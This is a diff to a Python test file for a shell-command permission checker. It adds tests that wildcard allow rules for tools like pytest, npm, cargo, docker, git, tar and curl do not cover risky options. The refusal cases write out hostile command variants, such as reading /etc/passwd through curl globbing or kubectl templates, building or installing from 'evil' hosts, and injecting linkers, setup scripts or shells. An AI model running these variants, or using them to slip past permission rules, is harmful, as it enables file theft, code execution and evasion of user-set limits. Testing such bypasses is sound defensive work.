@@ -5,11 +5,12 @@ from __future__ import annotations
 import time
 
 import pytest
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, assume, given, settings
 from hypothesis import strategies as st
 from tests.support.worker.permission_desk import Desk, bash
 
 from ccb.remote.permissions.decision import Behavior
+from ccb.remote.permissions.shell.harmless_options import HARMLESS
 from ccb.remote.permissions.shell.parser import parse
 from ccb.remote.permissions.shell.risky_options import TABLES, uncovered
 
@@ -287,6 +288,58 @@ def test_a_rule_with_a_wildcard_covers_no_option_that_runs_writes_or_reaches_els
     git fetch *: GIT_CONFIG_PARAMETERS="'core.sshcommand=./x'" git fetch
     git fetch *: git fetch $'--upload-pack=x'
     curl *: curl http://h --next -o x http://i
+    pytest *: pytest --tx popen//python=./x --dist load
+    pytest *: pytest --cov-report=html:/tmp/x
+    pytest *: pytest --benchmark-json=x
+    pytest *: pytest --lf --pyargs evil
+    pytest *: pytest -W ignore::evil.module.Class
+    npm test *: npm test -- --globalSetup=/tmp/x.js
+    npm test *: npm test -- /tmp/x.test.js
+    npm run test *: npm run test -- --config x.js
+    yarn test *: yarn test --globalSetup=/tmp/x.js
+    pnpm test *: pnpm test --pnpmfile=x
+    npm install *: npm install ../evil
+    npm install *: npm install evil/x
+    npm install *: npm install github:evil/x
+    cmake --build *: cmake --build . -- --eval='$(shell x)'
+    cmake --build *: cmake --build . -- -f /tmp/x.mk
+    cmake --build *: cmake --build . -- SHELL=./x
+    cmake --build *: cmake --build /tmp/x
+    cargo clippy *: cargo clippy -- -C linker=./x
+    cargo test *: cargo test -- @/tmp/x
+    cargo fmt *: cargo fmt -- /tmp/x.rs
+    tox *: tox -- --rootdir=/tmp
+    vitest *: vitest --execArgv=--require=./x
+    vitest *: vitest --poolOptions.forks.execArgv=x
+    jest *: jest --coverageReporters=/x.js
+    mocha *: mocha --inspect-brk
+    mypy *: mypy --timing-stats x
+    pylint *: pylint --import-graph=x a
+    black *: black /tmp/x
+    git fetch *: git fetch --multiple a evil:b
+    git init *: git init /tmp/x
+    git worktree add *: git worktree add ../x
+    git apply *: git apply /tmp/x
+    git commit *: git commit -S -m x
+    docker build *: docker build https://evil/x
+    docker build *: docker build --build-arg HTTPS_PROXY=evil .
+    docker ps *: docker ps --unknown
+    kubectl get *: kubectl get --kuberc=x pods
+    kubectl get *: kubectl get -otemplatefile=/etc/passwd pods
+    go mod *: go mod edit -replace a=/tmp/x
+    go test *: go test /tmp/x/...
+    go test *: go test -args -test.x
+    dotnet build *: dotnet build -flp:logfile=x
+    dotnet test *: dotnet test -rp:x=y
+    terraform fmt *: terraform fmt /tmp/x
+    golangci-lint *: golangci-lint run --out-format json:/x
+    git checkout-index *: git checkout-index --prefix=/tmp/x -a
+    git read-tree *: git read-tree --index-output=/tmp/x HEAD
+    podman *: podman --hooks-dir=/x run a
+    tar *: tar -cfevil:x .
+    tar *: tar --file=evil:x -c .
+    curl *: curl {file:///etc/passwd}
+    curl *: curl [f-f]ile:///etc/passwd
     """
     assert refused(desk, lines) == []
 
@@ -433,6 +486,112 @@ def test_the_everyday_commands_of_a_session_are_covered_as_before(desk: Desk) ->
     assert len(commands) >= 65
     asked = [(line, bash(engine, line).reason) for line in commands if bash(engine, line).behavior is ASK]
     assert asked == []
+
+
+GRANTED = r"""
+pytest -q -x tests/test_a.py::test_b
+pytest --tb=short --maxfail 1 -k "a or b"
+pytest -n 4 --dist loadfile --durations=10
+pytest -vv -s --log-cli-level=INFO
+pytest --cov=src --cov-report=term-missing:skip-covered --cov-report html
+pytest -W error -p no:randomly
+ruff check --fix --select E,F .
+ruff format --check --diff src
+ruff check --output-format concise --statistics
+mypy --strict --ignore-missing-imports src
+mypy -p pkg --show-error-codes --python-version 3.9
+black --check --diff -l 120 src
+isort --profile black --check-only .
+flake8 --max-line-length=120 src
+pylint -j 0 --disable=C0111 src
+tox -e py311 -- -k name -x
+eslint --fix --ext .ts,.tsx --max-warnings 0 src
+prettier --check "src/**/*.ts"
+tsc --noEmit -p tsconfig.json
+jest --ci --coverage -t "a name" src/a.test.ts
+vitest --run --coverage --reporter=verbose
+mocha --grep name --timeout 5000 --recursive
+rspec -fd spec/a_spec.rb:12 --tag focus
+rubocop -A --only Style/X lib
+phpunit --filter testX --testdox
+golangci-lint run --fix --timeout 5m ./...
+gofmt -l -w .
+shellcheck -x -s bash -e SC1090 a.sh
+ctest --output-on-failure -j8 -R name
+ninja -j4 -v all
+git add -A
+git add -p src
+git commit -m "a: b" --no-verify
+git commit -am "a"
+git commit --amend --no-edit --signoff
+git fetch --all --prune --tags
+git pull --rebase --autostash origin main
+git merge --no-ff -m "m" -s ort topic
+git merge --abort
+git stash push -u -m wip
+git stash pop --index
+git branch -D topic
+git tag -a v1 -m one
+git switch -c topic origin/main
+git restore --staged --source=HEAD~1 a.txt
+git worktree add sub/tree -b topic
+git cherry-pick -x abc123
+git apply --check a.patch
+npm test -- --watch=false -t name src/a.test.js
+npm run build -- --mode production
+npm install --save-dev typescript @types/node@20
+npm ci --no-audit --prefer-offline
+npm audit --json --omit=dev
+yarn test --coverage
+pnpm install --frozen-lockfile
+cargo build --release --features a,b
+cargo test -p core some::test -- --nocapture --test-threads=1
+cargo clippy --all-targets --all-features -- -D warnings
+go test ./... -race -run '^TestX$' -v -count=1
+go build -o bin/app ./cmd/app
+go list -m -u all
+make test -j8 -k V=1
+docker build -t app:dev --build-arg VERSION=1.2 -f Dockerfile .
+docker logs -f --tail 100 web
+docker ps -aq --filter status=exited
+kubectl get pods -n web -o jsonpath='{.items[*].metadata.name}' -w
+kubectl logs -f deploy/web --since=1h -c app
+mvn test -Dtest=FooTest -pl core -am -q -Pdev
+gradle test --tests FooTest --info
+dotnet test -c Release --filter Name~X --no-build
+pip list --outdated --format=json
+uv sync --all-extras --frozen
+systemctl status nginx --no-pager -l
+terraform plan -no-color -input=false -target=module.a
+bundle install --jobs 4
+composer install --no-interaction --prefer-dist
+cmake --build build -j8 --target all -- -k VERBOSE=1
+"""
+
+
+def test_the_rule_that_an_everyday_command_suggests_covers_it(desk: Desk) -> None:
+    wrong = []
+    for line in filter(None, GRANTED.splitlines()):
+        updates = bash(desk.engine(), line).suggestions
+        rules = [rule["ruleContent"] for rule in updates[0]["rules"]] if updates else []
+        given = desk.engine(allowed=" ".join(f"Bash({rule})" for rule in rules))
+        if not any("*" in rule for rule in rules) or bash(given, line).behavior is not ALLOW:
+            wrong.append((line, rules))
+    assert wrong == []
+
+
+@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None, max_examples=100)
+@given(
+    st.sampled_from(sorted(HARMLESS)),
+    st.from_regex(r"--?[a-zA-Z][a-zA-Z.-]{0,12}", fullmatch=True),
+    st.sampled_from(["", "=x", ":x", " x"]),
+    st.sampled_from(["", "-- ", "x "]),
+)
+def test_a_suggested_rule_covers_no_option_that_is_not_listed(name: str, option: str, value: str, before: str) -> None:
+    listed = {entry.rstrip("=@").lstrip("-") for entry in f"--help --version {HARMLESS[name]}".split()}
+    assume(option.lstrip("-") not in listed and (option.startswith("--") or option[1] not in listed))
+    (command,) = parse(f"{name} {before}{option}{value}")
+    assert uncovered(command.words, len(name.split()), lambda path: True, ["/"]) is not None, command.raw
 
 
 _EXCLUDED = {
